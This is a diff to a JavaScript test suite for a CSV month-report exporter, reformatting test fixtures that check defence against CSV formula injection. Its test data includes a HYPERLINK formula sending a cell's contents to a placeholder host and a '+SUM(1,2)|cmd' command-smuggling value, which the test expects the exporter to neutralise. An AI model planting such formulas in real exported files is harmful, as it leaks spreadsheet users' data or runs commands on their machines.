@@ -5,7 +5,12 @@ import { monthReportCsv, monthReportName } from './report.js';
 // The month report as CSV: RFC 4180, UTF-8, a header row.
 
 const entries = [
-  { id: 'b2', date: '2026-11-20', status: 'Completed', details: 'Tower B level 2, ductwork "hangers" installed\nalong gridlines 3–6' },
+  {
+    id: 'b2',
+    date: '2026-11-20',
+    status: 'Completed',
+    details: 'Tower B level 2, ductwork "hangers" installed\nalong gridlines 3–6',
+  },
   { id: 'a1', date: '2026-11-03', status: 'In Progress', details: 'Plain' },
   { id: 'z9', date: '2026-10-31', status: 'Completed', details: 'other month' },
 ];
@@ -34,11 +39,26 @@ describe('monthReportCsv: cells a spreadsheet would run', () => {
   // OWASP, "CSV Injection": a cell that begins with =, +, -, @, a tab or a carriage return is read
   // as a formula by Excel and LibreOffice. Read back with a real CSV parser, each such detail must
   // come out as text led by an apostrophe, and every other cell exactly as written.
-  const risky = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+SUM(1,2)|cmd', '-2+3', '@SUM(A1:A2)', '\tpadded', '\rreturn'];
-  const month = risky.map((details, i) => ({ id: `r${i}`, date: `2026-11-${String(10 + i)}`, status: 'In Progress', details }));
+  const risky = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    '+SUM(1,2)|cmd',
+    '-2+3',
+    '@SUM(A1:A2)',
+    '\tpadded',
+    '\rreturn',
+  ];
+  const month = risky.map((details, i) => ({
+    id: `r${i}`,
+    date: `2026-11-${String(10 + i)}`,
+    status: 'In Progress',
+    details,
+  }));
 
   it('leads every formula-like detail with an apostrophe, and leaves ordinary text as it is', () => {
-    const csv = monthReportCsv('2026-11', [...month, { id: 'ok', date: '2026-11-30', status: 'Completed', details: 'Level 2 – 3 rooms, 50% done' }]);
+    const csv = monthReportCsv('2026-11', [
+      ...month,
+      { id: 'ok', date: '2026-11-30', status: 'Completed', details: 'Level 2 – 3 rooms, 50% done' },
+    ]);
     const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n' });
     expect(parsed.errors).toEqual([]);
     const rows = parsed.data.filter((r) => r.length > 1).slice(1);
